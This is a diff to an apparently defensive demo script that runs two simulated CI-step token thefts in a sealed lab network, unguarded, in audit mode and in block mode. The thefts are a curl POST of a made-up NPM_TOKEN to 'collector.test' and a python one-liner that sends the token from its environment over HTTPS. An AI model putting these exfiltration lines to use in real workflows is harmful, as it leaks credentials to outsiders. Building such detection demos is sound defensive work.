@@ -1,9 +1,11 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: MIT
-"""GhostAction in a network without a way out: unguarded, in audit mode and in block mode.
+"""Two thefts in a network without a way out: unguarded, in audit mode and in block mode.
 
-A step posts a token with curl to a collector, as hundreds of repositories saw it in September
-2025. The token is made up when this starts. Exit code 0 means that both modes stopped it.
+A step posts a token with curl to a stranger's server, as hundreds of repositories saw it in
+September 2025. Another one reads it from its environment and sends it over HTTPS to a host that
+the policy allows. The token is made up when this starts. Exit code 0 means that both modes stopped
+both.
 """
 
 from __future__ import annotations
@@ -27,7 +29,6 @@ try:
 except ImportError as error:
     sys.exit(f"demo: {error.name} is not installed; `make demo` installs what it needs")
 
-STEP = "curl -sS -X POST -d 'NPM_TOKEN={value}' https://collector.test/"
 UNSUPPORTED = 4
 LABEL_WIDTH = 25
 COLUMNS = range(22, 37)
@@ -35,24 +36,58 @@ COLUMNS = range(22, 37)
 
 
 @dataclass(frozen=True)
-class Act:
-    """One of the three runs: what the thief got and what the guard said."""
+class Scene:
+    """A step that somebody else wrote."""
 
+    title: str
+    script: str
+    """For sh; ``{value}`` is the token, wherever the runner writes it into the script."""
+    finding: str
+    policy: str = ""
+
+    def shown(self) -> str:
+        """The step as it stands in the workflow."""
+        lines = self.script.format(value="${{ secrets.NPM_TOKEN }}").splitlines()
+        text = lines[0] if len(lines) == 1 else "\n".join(["|", *(f"    {one}" for one in lines)])
+        return textwrap.indent(f"- run: {text}", " " * 4)
+
+
+SCENES = (
+    Scene(
+        "1. A curl with the token on its command line (GhostAction, September 2025)",
+        "curl -sS -X POST -d 'NPM_TOKEN={value}' https://collector.test/",
+        "secret-in-argv",
+    ),
+    Scene(
+        "2. A program with the token in its environment sends it over HTTPS to an allowed host",
+        "python3 -c 'import os, urllib.request as web\n"
+        'web.urlopen("https://collector.test/?" + os.environ["NPM_TOKEN"])\'',
+        "secret-in-tls",
+        "version: 1\nallow: collector.test\n",
+    ),
+)
+
+
+@dataclass(frozen=True)
+class Act:
+    """One of the three runs of a scene: what the thief got and what the guard said."""
+
+    scene: Scene
     title: str
     code: int
     secret_bytes: int
-    all_bytes: int
+    data_bytes: int
+    """Without what TLS itself needs: its handshake is not the step's data."""
     connections: int
-    questions: int
     guarded: Guarded | None
     token: Token
 
     @property
     def finding(self) -> dict[str, Any]:
-        """The first finding about a secret on a command line; empty if there is none."""
+        """The first finding of the scene's kind; empty if there is none."""
         if self.guarded is None or not self.guarded.has_report:
             return {}
-        return next(iter(self.guarded.findings("secret-in-argv")), {})
+        return next(iter(self.guarded.findings(self.scene.finding)), {})
 
     @property
     def stopped(self) -> bool:
@@ -60,8 +95,9 @@ class Act:
         return (
             self.guarded is not None
             and self.code == FINDINGS
-            and self.connections == self.all_bytes == 0
+            and self.data_bytes == 0
             and self.finding.get("secret") == self.token.name
+            and self.finding["bytes_left"] == 0
             and not self.guarded.shows(self.token)
         )
 
@@ -69,9 +105,8 @@ class Act:
         """What the table shows of it."""
         facts = {
             "exit code": str(self.code),
-            "questions for the name": str(self.questions),
             "connections": str(self.connections),
-            "bytes collected": str(self.all_bytes),
+            "bytes of data collected": str(self.data_bytes),
             "bytes of the token": f"{self.secret_bytes} of {len(self.token.value)}",
         }
         if self.guarded is None:
@@ -84,14 +119,14 @@ class Act:
             "finding": f"{self.finding['id']} ({self.finding['severity']})",
             "secret": self.finding["secret"],
             "on its way to": self.finding["destination"],
-            "by": " < ".join([process["exe"], *process["ancestry"][:1]]),
+            "by": " < ".join(Path(one).name for one in (process["exe"], *process["ancestry"][:1])),
             "what was done": self.finding["action_taken"],
             "token in any output": "yes" if self.guarded.shows(self.token) else "no",
         }
 
 
 def main() -> int:
-    """Play the three acts and compare them."""
+    """Play all scenes."""
     if missing := missing_root():
         print(
             f"demo: cannot run here: {missing}.\n"
@@ -101,31 +136,44 @@ def main() -> int:
         )
         return UNSUPPORTED
     token = tokens.npm()
-    print(
-        "GhostAction, September 2025: a step that somebody else wrote posts a token with curl.\n\n"
-        f"    - run: {STEP.format(value='${{ secrets.NPM_TOKEN }}')}\n\n"
-        "Here in a network without a way out, with a token that was made up just now.\n"
-    )
+    print("Two steps that somebody else wrote, in a network without a way out, with a token that")
+    print("was made up just now.")
     with tempfile.TemporaryDirectory(prefix="leakstop-demo-") as reports:
-        acts = [play(mode, token, Path(reports)) for mode in ("", "audit", "block")]
-        print(table(acts))
-        return conclude(*acts)
+        codes = [perform(scene, token, Path(reports)) for scene in SCENES]
+    return max(codes)
 
 
-def play(mode: str, token: Token, reports: Path) -> Act:
+def perform(scene: Scene, token: Token, reports: Path) -> int:
+    """Play the three acts of a scene and compare them."""
+    print(f"\n{scene.title}\n\n{scene.shown()}\n", flush=True)
+    acts = [play(scene, mode, token, reports) for mode in ("", "audit", "block")]
+    print(table(acts))
+    return conclude(*acts)
+
+
+def play(scene: Scene, mode: str, token: Token, reports: Path) -> Act:
     """Run the step once, in a lab of its own; without a ``mode`` unguarded."""
     with Lab() as lab:
         script = lab.directory / "step.sh"
-        script.write_text(STEP.format(value=token.value) + "\n")
+        script.write_text(scene.script.format(value=token.value) + "\n")
         command: list[str | Path] = ["sh", "-e", script]
-        run = guard(lab, command, mode=mode, secrets=[token], reports=reports) if mode else None
+        run = (
+            guard(lab, command, mode=mode, policy=scene.policy, secrets=[token], reports=reports)
+            if mode
+            else None
+        )
+        code = run.code if run else lab.run(command, env=token.env).returncode
+        drop = lab.collector
         return Act(
+            scene=scene,
             title=f"leakstop, {mode}" if mode else "unguarded",
-            code=run.code if run else lab.run(command).returncode,
-            secret_bytes=lab.collector.bytes_of(token.value.encode()),
-            all_bytes=lab.collector.bytes_received,
-            connections=len(lab.collector.connections),
-            questions=sum(q.name.endswith("collector.test") for q in lab.dns.questions),
+            code=code,
+            secret_bytes=drop.bytes_of(token.value.encode()),
+            data_bytes=sum(
+                len(seen.plain if seen.transport == "tls" else seen.wire)
+                for seen in drop.connections
+            ),
+            connections=len(drop.connections),
             guarded=run,
             token=token,
         )
